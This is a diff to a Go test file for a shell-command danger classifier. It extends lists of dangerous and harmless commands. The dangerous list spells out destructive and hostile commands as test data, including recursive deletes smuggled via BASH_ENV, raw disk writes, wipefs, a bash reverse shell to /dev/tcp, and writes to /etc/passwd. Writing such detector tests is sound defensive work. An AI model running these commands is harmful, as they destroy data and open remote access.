@@ -33,7 +33,7 @@ func shippedRisk(t testing.TB) *Risk {
 
 // dangerous are commands with the pattern that each must match.
 func dangerous() [][2]string {
-	return [][2]string{
+	return append(fed(), [][2]string{
 		// Programs that read a text from somewhere unusual.
 		{"echo 'rm -rf x' | at now", "rm-recursive"}, {"BASH_ENV='$(rm -rf x)' bash -c true", "rm-recursive"},
 		{"kubectl exec pod -c app -- rm -rf x", "rm-recursive"}, {"docker compose exec svc rm -rf x", "rm-recursive"}, {"docker container exec c rm -rf x", "rm-recursive"},
@@ -94,11 +94,11 @@ func dangerous() [][2]string {
 		{"cat x | tee /dev/nvme0n1", "copy-to-device"}, {"cp x /dev/sdb", "copy-to-device"}, {"dd if=x of=/dev/disk2 bs=1m", "dd-device"}, {"cat x >> /dev/vda", "write-device"}, {"echo x >| /dev//sda", "write-device"}, {"exec 3<>/dev/tcp/h/80", "network-redirect"}, {"bash -i >& /dev/tcp/1.2.3.4/80 0>&1", "network-redirect"}, {"echo x >> /etc/passwd", "write-system"},
 		{"chmod -R a+rwx .", "chmod-recursive"}, {"chmod u+s x", "chmod-setuid"}, {"chmod 4755 x", "chmod-setuid"}, {"chown -R root .", "chown-recursive"}, {"wipefs -a /dev/sda", "format"}, {"shred -u x", "shred"}, {"mv x /dev/null", "discard"}, {"shutdown -h now", "power"}, {"crontab -r", "crontab-remove"},
 		{"mysql <<EOF\ndrop   table x;\nEOF", "sql-drop"}, {"sqlite3 db 'truncate table x'", "sql-drop"}, {"docker run --privileged x", "container-privileged"}, {"kubectl -n x delete pod y", "cluster-delete"}, {"terraform apply -destroy", "terraform-destroy"}, {"gh repo delete x", "repository-delete"}, {"npm publish", "publish"},
-	}
+	}...)
 }
 
 func harmless() []string {
-	return []string{
+	return append(fedHarmless(), []string{
 		`git cherry-pick -x "$SHA"`, `git clean -n -x "$DIR"`, "git mv a.cmd 'b (1).cmd'", "gdb -ex 'print (int)x' ./a", "gdb -ex run -ex bt --args ./x",
 		"docker run --rm --gpus all $IMAGE python x.py", `docker run -d --restart always "$IMAGE"`, "docker run --shm-size 1g $IMAGE ls",
 		// Of the design.
@@ -111,7 +111,7 @@ func harmless() []string {
 		"tar -czf a.tgz b", "tar --exclude x -I zstd -cf a b", "rsync -av -e ssh a b:c", "ssh -o StrictHostKeyChecking=yes host ls", "npx prettier .", "npm run rm", "uv run pytest", "uv pip install x", "docker run --rm alpine ls -r", "kubectl exec p -- ls", "compgen -c", "hash -r", "complete -F f ls", "ls > >(tee log)", "at now < job", "bundle exec rake",
 		"mapfile -t a < f", "mapfile -C 'echo -n' -c 10 a < f", "let 'a[1]+=1'", "let 'x = y ? 1 : 2'", "printf '[%s] $(x)\\n' a", "read -r a b", "unset 'a[0]'", "[[ 'a[1]' -eq 0 ]]", `[ "$x" = '[$(date)]' ]`,
 		"sed -i 's/rm -rf/x/' f", "awk '{print $1}' f", "tar xzf a.tgz", "docker ps", "docker run --rm x", "kubectl get pods", "psql -c 'select 1'", "grep -i 'drop table' migrations", "cat > m.sql <<E\nDROP TABLE x;\nE", "echo hi >> log.txt", "cat < /dev/null", "echo x >&2", "exec 2>&1", "[[ $a == b ]] && echo y", "((i++))", "let x=1", "export A=b", "time make", "f() { ls; }; f", "while read l; do echo \"$l\"; done < f", "echo `date`", "diff <(ls a) <(ls b)", "echo rm -rf x", "printf '%s\\n' rm -rf", "cat x | grep y | sort", "trap 'echo bye' EXIT", "test -e /dev/sda", "ls /dev/sda", "true # rm -rf x", `. "$(dirname "$0")/lib.sh"`, `bash "$(dirname "$0")/x.sh"`, `source "$HOME/.env"`, `python3 x.py "$(curl -s u)"`, "cat 'file; rm -rf x'", "echo été", "touch 'naïve file'", "", "# a comment",
-	}
+	}...)
 }
 
 func TestShellDangerous(t *testing.T) {
